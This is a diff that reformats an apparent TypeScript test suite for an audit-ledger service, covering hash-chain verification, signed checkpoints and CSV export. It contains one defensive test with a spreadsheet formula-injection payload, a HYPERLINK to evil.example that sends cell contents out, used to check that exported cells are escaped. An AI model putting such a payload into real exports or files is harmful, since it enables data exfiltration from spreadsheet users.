@@ -93,7 +93,15 @@ export function auditScenarios(getSystem: () => TestSystem): void {
   async function internal(id: string, step: string): Promise<void> {
     const res = await fetch(`${getSystem().services.get('lifecycle-clock')!.url}/internal/v1/requests/${id}/lifecycle/${step}`, {
       method: 'POST',
-      headers: { 'content-type': 'application/json', ...signedInternalHeaders(getSystem().internalAuthKey, 'POST', `${getSystem().services.get('lifecycle-clock')!.url}/internal/v1/requests/${id}/lifecycle/${step}`, servicePrincipal(KEYS.adminA.tenantId)) },
+      headers: {
+        'content-type': 'application/json',
+        ...signedInternalHeaders(
+          getSystem().internalAuthKey,
+          'POST',
+          `${getSystem().services.get('lifecycle-clock')!.url}/internal/v1/requests/${id}/lifecycle/${step}`,
+          servicePrincipal(KEYS.adminA.tenantId),
+        ),
+      },
       body: '{}',
     });
     expect(res.status).toBe(202);
@@ -165,7 +173,7 @@ export function auditScenarios(getSystem: () => TestSystem): void {
       expect(timeline.map((e: { payload: unknown }) => e.payload)).toEqual(events.map((e: { payload: unknown }) => e.payload));
     });
 
-    it('names who acted, and keeps the extension\'s free text only as a salted hash', () => {
+    it("names who acted, and keeps the extension's free text only as a salted hash", () => {
       const { events } = exported.body;
       const extension = events.find((e: { eventType: string }) => e.eventType === 'dsar.request.deadline_extended.v1');
       expect(extension.actor).toMatch(/^key:/);
@@ -181,7 +189,11 @@ export function auditScenarios(getSystem: () => TestSystem): void {
       const third = await ok(await api.post(`/requests/${id}/audit/verify`, { hash: events[2].hash, sequence: 3 }));
       expect(third.body).toMatchObject({ verified: true, checkedEntries: 3 });
       const wrong = await ok(await api.post(`/requests/${id}/audit/verify`, { hash: events[3].hash, sequence: 3 }));
-      expect(wrong.body).toMatchObject({ verified: false, status: 'hash_mismatch', mismatches: [{ eventId: events[2].eventId, kind: 'claimed_hash', expectedHash: events[3].hash, actualHash: events[2].hash }] });
+      expect(wrong.body).toMatchObject({
+        verified: false,
+        status: 'hash_mismatch',
+        mismatches: [{ eventId: events[2].eventId, kind: 'claimed_hash', expectedHash: events[3].hash, actualHash: events[2].hash }],
+      });
     });
 
     it('streams the chain as JSON Lines that the script in docs/audit.md checks with jq and openssl', async () => {
@@ -238,7 +250,7 @@ export function auditScenarios(getSystem: () => TestSystem): void {
       expect(past.body).toMatchObject({ verified: false, status: 'sequence_not_found' });
     });
 
-    it('an unknown request, or another tenant\'s, is a 404; the export needs audit:export', async () => {
+    it("an unknown request, or another tenant's, is a 404; the export needs audit:export", async () => {
       const unknown = '00000000-0000-4000-8000-000000000000';
       expect((await api.post(`/requests/${unknown}/audit/verify`, { hash: `sha256:${'a'.repeat(64)}`, sequence: 1 })).status).toBe(404);
       expect((await api.get(`/requests/${unknown}/audit/export`)).status).toBe(404);
@@ -259,7 +271,7 @@ export function auditScenarios(getSystem: () => TestSystem): void {
   });
 
   describe('signed checkpoints', () => {
-    it('covers the tenant\'s chain heads, and the script in docs/audit.md checks its key, signature and root', async () => {
+    it("covers the tenant's chain heads, and the script in docs/audit.md checks its key, signature and root", async () => {
       const id = await walkedRequest();
       const head = (await api.get(`/requests/${id}/audit/export`)).body;
       const publisher = getSystem().services.get('audit-ledger')!.app.get(CheckpointPublisher);
@@ -282,10 +294,14 @@ export function auditScenarios(getSystem: () => TestSystem): void {
       expect(out).toBe(`checkpoint ${checkpoint.number} OK: ${checkpoint.leafCount} leaves, root ${checkpoint.root}`);
       // A changed statement, a changed leaf, or a key that is not the trusted one fails the same script.
       const trusted = { TRUSTED_KEY_ID: publisher.keyId! };
-      await expect(runDocsScript('verify-checkpoint', { 'checkpoint.json': JSON.stringify({ ...checkpoint, leafCount: checkpoint.leafCount + 1 }) }, trusted)).rejects.toMatchObject({ stdout: 'bad signature\n' });
+      await expect(runDocsScript('verify-checkpoint', { 'checkpoint.json': JSON.stringify({ ...checkpoint, leafCount: checkpoint.leafCount + 1 }) }, trusted)).rejects.toMatchObject({
+        stdout: 'bad signature\n',
+      });
       const leaves = checkpoint.leaves.map((l: { sequence: number }, i: number) => (i === 0 ? { ...l, sequence: l.sequence + 1 } : l));
       await expect(runDocsScript('verify-checkpoint', { 'checkpoint.json': JSON.stringify({ ...checkpoint, leaves }) }, trusted)).rejects.toMatchObject({ stdout: 'root does not match the leaves\n' });
-      await expect(runDocsScript('verify-checkpoint', { 'checkpoint.json': JSON.stringify(checkpoint) }, { TRUSTED_KEY_ID: `sha256:${'0'.repeat(64)}` })).rejects.toMatchObject({ stdout: 'not the trusted key\n' });
+      await expect(runDocsScript('verify-checkpoint', { 'checkpoint.json': JSON.stringify(checkpoint) }, { TRUSTED_KEY_ID: `sha256:${'0'.repeat(64)}` })).rejects.toMatchObject({
+        stdout: 'not the trusted key\n',
+      });
 
       expect((await api.get('/audit/checkpoints/00000000-0000-4000-8000-000000000000')).status).toBe(404);
       expect((await api.as(KEYS.workspaceA.token).get('/audit/checkpoints')).status).toBe(403);
@@ -294,7 +310,7 @@ export function auditScenarios(getSystem: () => TestSystem): void {
   });
 
   describe('the CSV export opens in a spreadsheet as text', () => {
-    it('a cell that could start a formula (callers whose JWT sub or tenant begins with =, +, -, @) starts with a quote, and reads back to the chain\'s value', async () => {
+    it("a cell that could start a formula (callers whose JWT sub or tenant begins with =, +, -, @) starts with a quote, and reads back to the chain's value", async () => {
       const tenantId = '@csv-tenant';
       const subjects = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '+1+1', '-2+3', '@SUM(1,2)'];
       const callers = await Promise.all(subjects.map(async (sub) => api.as(await jwtFor(sub, tenantId, ['admin']))));
@@ -302,11 +318,15 @@ export function auditScenarios(getSystem: () => TestSystem): void {
       await ok(await callers[1].post(`/requests/${id}/acknowledgements`, { channel: 'email' }));
       await ok(await callers[2].post(`/requests/${id}/clarifications/request`, { message: 'Which account do you mean?' }));
       await ok(await callers[3].post(`/requests/${id}/clarifications/receive`, { message: 'The shop account.' }));
-      const events = await waitFor('the steps of the formula callers on the chain', async () => {
-        const res = await ok(await callers[0].get(`/requests/${id}/audit/export`));
-        const all = res.body.events as Array<Record<string, unknown>>;
-        return subjects.slice(1).every((sub) => all.some((e) => String(e.actor).includes(sub))) ? all : undefined;
-      }, { timeoutMs: 20_000 });
+      const events = await waitFor(
+        'the steps of the formula callers on the chain',
+        async () => {
+          const res = await ok(await callers[0].get(`/requests/${id}/audit/export`));
+          const all = res.body.events as Array<Record<string, unknown>>;
+          return subjects.slice(1).every((sub) => all.some((e) => String(e.actor).includes(sub))) ? all : undefined;
+        },
+        { timeoutMs: 20_000 },
+      );
 
       const csv = await ok(await callers[0].get(`/requests/${id}/audit/export?format=csv`));
       const [header, ...rows] = csvCells(csv.body.content as string);
